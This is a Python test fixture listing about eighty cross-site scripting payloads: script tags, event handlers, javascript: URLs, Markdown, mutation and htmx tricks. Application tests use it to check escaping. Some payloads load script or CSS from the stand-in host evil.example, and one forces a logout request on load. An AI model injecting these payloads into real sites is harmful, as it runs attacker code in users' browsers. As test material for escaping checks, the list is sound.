"""Cross-site scripting payloads pushed through every field that echoes user text.

Used by tests/integration/test_xss.py (none may reach a page unescaped) and by the browser
tests (none may execute in Chromium). Each payload that would run calls
``alert(...)`` or loads something carrying ``xss`` so a browser check can watch
for dialogs and requests. No NUL characters: PostgreSQL text refuses them, and
the fuzz tests cover those separately.
"""

PAYLOADS = [
    # Plain script elements, in the usual spellings.
    "<script>alert(1)</script>",
    "<SCRIPT>alert('xss')</SCRIPT>",
    "<script src=https://evil.example/xss.js></script>",
    "<script>alert(String.fromCharCode(88,83,83))</script>",
    "<<script>script>alert(1)//<</script>/script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x0c>alert(1)</script>",
    "<script/xss>alert(1)</script>",
    # Breaking out of where the text lands: attributes, titles, textareas, JSON-LD.
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    '" autofocus onfocus=alert(1) x="',
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    '{"@context":"x"}</script><script>alert(1)</script>',
    "</style><script>alert(1)</script>",
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "<![CDATA[<script>alert(1)</script>]]>",
    # Event handlers on ordinary elements.
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x ONERROR=alert(1)>",
    "<img src=x onerror=&#x61;lert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>xss</marquee>",
    "<x onclick=alert(1)>click me</x>",
    "<div onpointerover=alert(1)>hover</div>",
    "<select autofocus onfocus=alert(1)></select>",
    # Script URLs, in links, forms and embeds.
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    '<a href="jav&#x09;ascript:alert(1)">click</a>',
    '<a href=" javascript:alert(1)">click</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    '<button formaction="javascript:alert(1)">go</button>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<base href="https://evil.example/xss/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel="stylesheet" href="https://evil.example/xss.css">',
    "javascript:alert(1)",
    # Markdown's own ways in (annotations and rationales are Markdown).
    "[click](javascript:alert(1))",
    "[click](JAVASCRIPT:alert(1))",
    "[click](javascript&#58;alert(1))",
    '![x](x" onerror="alert(1))',
    "<javascript:alert(1)>",
    "[ref]: javascript:alert(1)\n\n[click][ref]",
    "**bold** <img src=x onerror=alert(1)> _it_",
    "```\n</code><script>alert(1)</script>\n```",
    "> <script>alert(1)</script>",
    # Mutation XSS and parser confusion.
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<style>@import 'https://evil.example/xss.css';</style>",
    # htmx: attributes that would make the page fetch or run things on load.
    '<div hx-get="/xss" hx-trigger="load">x</div>',
    '<div hx-on:click="alert(1)">click</div>',
    '<div data-hx-post="/accounts/logout/?xss" data-hx-trigger="load">xss</div>',
    '<div hx-vals=\'js:{a: alert(1)}\' hx-get="/xss" hx-trigger="load">x</div>',
    # Template and encoding tricks: must come out as the literal text.
    "{{ 7*7 }} {% debug %} {# xss #}",
    "${alert(1)} #{alert(1)} <%= alert(1) %>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\u202e<script>alert(1)</script>\u2028\u2029",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "';alert(1);//",
    '";alert(1);//',
]

assert len(PAYLOADS) >= 50
assert len(set(PAYLOADS)) == len(PAYLOADS)
